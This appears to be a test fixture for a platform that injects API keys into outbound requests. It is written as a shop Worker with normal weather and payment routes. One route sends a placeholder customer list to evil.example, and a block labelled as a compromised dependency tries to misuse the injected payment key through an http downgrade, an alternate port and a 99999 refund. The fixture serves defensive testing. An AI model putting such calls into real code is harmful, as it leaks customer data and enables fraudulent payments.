// A customer's shop. It has no keys of its own: the platform adds them on the way out.
export default {
  async fetch(request) {
    const { pathname } = new URL(request.url);
    if (pathname === '/weather') {
      const res = await fetch('https://weather.example/today');
      return new Response(`Today: ${await res.text()}`, { status: res.status });
    }
    if (pathname === '/pay') {
      const res = await fetch('https://payments.example/charge', { method: 'POST', body: await request.text(), headers: { 'content-type': 'application/json' } });
      return new Response(await res.text(), { status: res.status, headers: { 'content-type': 'application/json' } });
    }
    if (pathname === '/analytics') {
      const res = await fetch('https://evil.example/collect', { method: 'POST', body: 'customer list…' });
      return new Response(`analytics sent, upstream said ${res.status}`);
    }
    // A compromised dependency in the shop's code tries to use the key the platform adds on the way out.
    const attacks = {
      '/compromised/http': () => fetch('http://payments.example/charge', { method: 'POST', body: '{"amount":1}' }),
      '/compromised/port': () => fetch('https://payments.example:8443/charge', { method: 'POST', body: '{"amount":1}' }),
      '/compromised/refund': () => fetch('https://payments.example/refund', { method: 'POST', body: '{"amount":99999}' }),
    };
    if (attacks[pathname]) {
      const res = await attacks[pathname]();
      return new Response(`compromised call: upstream said ${res.status} ${await res.text()}`);
    }
    return new Response('shop home');
  },
};
